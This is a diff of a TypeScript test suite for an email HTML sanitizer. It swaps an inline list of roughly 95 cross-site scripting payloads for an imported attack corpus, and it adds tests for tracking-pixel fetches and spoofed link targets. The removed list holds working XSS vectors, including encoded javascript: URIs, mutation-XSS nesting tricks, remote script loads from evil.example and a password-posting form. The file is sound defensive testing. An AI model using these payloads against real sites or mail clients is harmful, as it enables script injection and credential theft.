@@ -1,3 +1,5 @@
+import { readMessage } from '@postroom/mime';
+import { attackHtml as attacks, attackMails } from '@postroom/testing';
 import { JSDOM } from 'jsdom';
 import { cutDepth } from './html-depth.ts';
 import { longestHtml, safeHtml } from './safe-html.ts';
@@ -8,106 +10,6 @@ const attachments = [
   { n: 3, contentId: null },
 ];
 const clean = (html: string, images = false) => safeHtml(html, { messageId: 'm1', attachments, images });
-
-/** Mails that tried to run something in a reader's browser; each once worked somewhere. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<script/x>alert(1)</script\n>',
-  '<script>alert(1)//',
-  '<<SCRIPT>alert(1);//<</SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src=x onerror\n=\nalert(1)>',
-  '<img src=x/onerror=alert(1)>',
-  '<img """><script>alert(1)</script>">',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<img src=javascript:alert(1)>',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<img src="data:text/html,<script>alert(1)</script>">',
-  '<img srcset="javascript:alert(1) 1x" src=x>',
-  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">a</a>',
-  '<a href="JaVaScRiPt:alert(1)">a</a>',
-  '<a href="java\tscript:alert(1)">a</a>',
-  '<a href="java&#x0A;script:alert(1)">a</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
-  '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">a</a>',
-  '<a href="&#x6A&#x61&#x76&#x61script&colon;alert(1)">a</a>',
-  '<a href=" \u0001javascript:alert(1)">a</a>',
-  '<a href="\u00a0javascript:alert(1)">a</a>',
-  '<a href="vbscript:msgbox(1)">a</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
-  '<a href="blob:https://x/1">a</a>',
-  '<a href="//evil.example" onclick=alert(1)>a</a>',
-  '<a href="/api/sign-out">a</a>',
-  '<a href="https://x" target="_self" rel="opener">a</a>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=9>x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
-  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<select><template><img src=x onerror=alert(1)></template></select>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<?xml version="1.0"?><?php <img src=x onerror=alert(1)> ?>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="javascript:alert(1)//"><a href="#x">a</a>',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
-  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
-  '<style>*{x:expression(alert(1))}</style>',
-  '<div style="width:expression(alert(1))">a</div>',
-  '<div style="background:url(javascript:alert(1))">a</div>',
-  '<div style="background-image:\\75rl(https://evil.example/x)">a</div>',
-  '<div style="-moz-binding:url(//evil.example/x.xml#y)">a</div>',
-  '<div style="behavior:url(x.htc)">a</div>',
-  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">a</div>',
-  '<div style="color:red;/*" onmouseover="alert(1)" title="*/">a</div>',
-  '<div style="font-family:\'x;}</style><img src=x onerror=alert(1)>\'">a</div>',
-  '<div style="margin:-5000px">a</div>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<applet code="x.class"></applet>',
-  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
-  '<input autofocus onfocus=alert(1)>',
-  '<isindex type=image src=1 onerror=alert(1)>',
-  '<body onload=alert(1) background="javascript:alert(1)">x</body>',
-  '<video><source onerror="alert(1)"></video>',
-  '<audio src=x onerror=alert(1)></audio>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
-  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
-  '<bgsound src="javascript:alert(1)"><layer src="https://evil.example/x"></layer>',
-  '<div id="querySelector"><a name="cookie" id="attributes">x</a></div>',
-  '<p/onmouseover=alert(1)>x',
-  '<p onmouseover\u000c=alert(1)>x</p>',
-  '<x onclick=alert(1)>x</x><custom-element is="x" onx=alert(1)>',
-  '\u0000<img src=x on\u0000error=alert(1)>',
-  '<im\u0000g src=x onerror=alert(1)>',
-  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-  '<div dir="ltr\' onclick=\'alert(1)">x</div>',
-  '<font color="red\"onmouseover=alert(1)//">x</font>',
-  '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
-  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
-  '<p title="`onmouseover=alert(1)`">x</p>',
-];
 
 const allowedSrc =
   /^(?:https:\/\/|data:image\/(?:png|jpe?g|gif|webp);base64,|\/api\/messages\/m1\/attachments\/\d+\?inline=1$)/;
@@ -145,13 +47,36 @@ function dangers(html: string): string[] {
   return said;
 }
 
+/** What a browser would load of a document by itself. */
+function fetched(html: string): string[] {
+  const { document } = new JSDOM(html).window;
+  return [...document.querySelectorAll('[src]')]
+    .map((element) => element.getAttribute('src') ?? '')
+    .filter((src) => !src.startsWith('data:image/') && !src.startsWith('/api/messages/m1/attachments/'));
+}
+
 describe('HTML of a mail', () => {
+  it('is tried on more than 150 attacks', () => {
+    expect(attackMails.length).toBeGreaterThan(150);
+  });
+
   it.each(attacks)('leaves nothing executable of %j', (attack) => {
     expect(dangers(clean(attack).html)).toEqual([]);
     expect(dangers(clean(attack, true).html)).toEqual([]);
     expect(dangers(clean(`<div><p>before ${attack} after</p></div>`).html)).toEqual([]);
     expect(dangers(clean(`<table><tr><td>${attack}</td></tr></table>`).html)).toEqual([]);
   });
+
+  it.each(attackMails.map((mail, n) => [n, mail] as const))(
+    'leaves nothing executable of the whole mail %i, and nothing that is fetched before the reader asks',
+    (_n, mail) => {
+      const { html } = readMessage(mail);
+      const shown = clean(html ?? '').html;
+      expect(dangers(shown)).toEqual([]);
+      expect(fetched(shown)).toEqual([]);
+      expect(dangers(clean(html ?? '', true).html)).toEqual([]);
+    },
+  );
 
   it('is the same after a second cleaning', () => {
     for (const attack of attacks) {
@@ -164,6 +89,7 @@ describe('HTML of a mail', () => {
     expect(dangers('<img src=x onerror=alert(1)>')).not.toEqual([]);
     expect(dangers('<script>alert(1)</script>')).toContain('ran');
     expect(dangers('</div></div><p>')).toContain('left its place');
+    expect(fetched('<img src=https://t.example/p.gif>')).toEqual(['https://t.example/p.gif']);
   });
 
   it('keeps text, tables and plain formatting', () => {
@@ -177,10 +103,21 @@ describe('HTML of a mail', () => {
 
   it('opens links beside the console, without telling where they were', () => {
     expect(clean('<a href=" https://example.com/a?b=1 ">x</a>').html).toBe(
-      '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">x</a>',
+      '<a href="https://example.com/a?b=1" title="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">x</a>',
     );
     expect(clean('<a href="mailto:a@example.com">x</a><a href="tel:+491">y</a>').html).toContain('href="tel:+491"');
     expect(clean('<a href="/relative">x</a>').html).toBe('<a>x</a>');
+  });
+
+  it('says under the pointer where a link leads, whatever its text and its title say', () => {
+    const shown = (html: string) => new JSDOM(clean(html).html).window.document.querySelector('a')?.title;
+    expect(shown('<a href="https://evil.example/x" title="https://bank.example">https://bank.example</a>')).toBe(
+      'https://evil.example/x',
+    );
+    expect(shown('<a href="https://b\u0430nk.example/">bank</a>')).toBe('https://xn--bnk-6cd.example/');
+    expect(shown('<a href="https://bank.example@evil.example/\u202egnp.x">bank</a>')).toBe(
+      'https://bank.example@evil.example/%E2%80%AEgnp.x',
+    );
   });
 
   it('takes out pictures that lie elsewhere, says so, and keeps those by https where they are asked for', () => {
